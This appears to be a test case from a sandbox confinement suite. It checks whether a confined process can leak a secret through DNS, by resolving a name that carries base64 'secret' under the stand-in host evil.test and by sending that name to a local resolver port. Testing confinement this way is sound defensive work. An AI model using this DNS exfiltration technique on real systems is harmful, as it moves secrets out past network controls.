#: row N01
#: tries to carry a secret out in a name that somebody outside would have to look up
#: probe resolve; control none it would ask a resolver outside; confined refused absent
#: probe ask; control got it; confined refused EPERM|EACCES
#: probe local; control none machines differ; confined got it or refused absent
import socket


def resolve(name):
    try:
        socket.getaddrinfo(name, 443)
    except socket.gaierror:
        raise Absent


def ask():
    # A resolver of the machine, as a datagram on the loopback: here the stage's own.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(b"c2VjcmV0.evil.test", ("127.0.0.1", int(stage("UDP_PORT"))))


if not CONTROL:
    attempt("resolve", lambda: resolve("c2VjcmV0.evil.test"))
    attempt("local", lambda: resolve("localhost"))
attempt("ask", ask)
